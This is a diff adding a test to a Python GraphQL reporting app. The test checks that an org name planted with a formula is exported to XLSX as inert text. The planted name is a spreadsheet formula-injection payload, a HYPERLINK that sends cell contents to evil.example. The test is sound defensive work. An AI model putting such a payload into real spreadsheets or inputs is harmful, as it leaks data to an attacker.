@@ -11,7 +11,7 @@ import sqlalchemy as sa
 from openpyxl import load_workbook
 
 from models import Bulletin, ReportVersion
-from tests.helpers import add_user, gid, league_today, snapshot
+from tests.helpers import add_user, gid, league_today, snapshot, standard_tree
 
 SUBMIT = """mutation($o: ID!, $y: Int!, $q: Int!, $p: String!) { submitReport(orgId: $o, year: $y, quarter: $q,
   practices: $p, experience: "坚持每月调度", problems: "县级活动不均衡", nextSteps: "加强督导") {
@@ -189,3 +189,25 @@ async def test_bulletin_figures_equal_raw_rows_and_publishing_freezes_it(world) 
         and "@media print" in text
     )
     assert timedelta(days=1)
+
+
+async def test_bulletin_xlsx_writes_a_planted_org_name_as_text(api) -> None:
+    tree = await standard_tree(api.services)
+    province = await add_user(api.services, "prov", org=tree["P"], roles=("province_admin",))
+    t = await api.token_for(province.id)
+    rename = "mutation($id: ID!, $n: String!) { updateOrg(input: {id: $id, name: $n}) { name } }"
+    planted = '=HYPERLINK("http://evil.example/?"&A3,"点我")'
+    assert (await api.gql(rename, {"id": gid("Org", tree["A1"].id), "n": planted}, token=t)).data
+    y, q = quarter_of(league_today(api.services))
+    b = (await api.gql(GENERATE, {"o": gid("Org", tree["A"].id), "y": y, "q": q}, token=t)).data
+    xlsx = (
+        await api.gql(
+            "query($id: ID!) { exportBulletin(id: $id, format: XLSX) { contentBase64 } }",
+            {"id": b["generateBulletin"]["id"]},
+            token=t,
+        )
+    ).data["exportBulletin"]
+    sheet = load_workbook(io.BytesIO(base64.b64decode(xlsx["contentBase64"]))).worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert {c.data_type for c in cells} == {"s"}
+    assert "'" + planted in {c.value for c in cells}
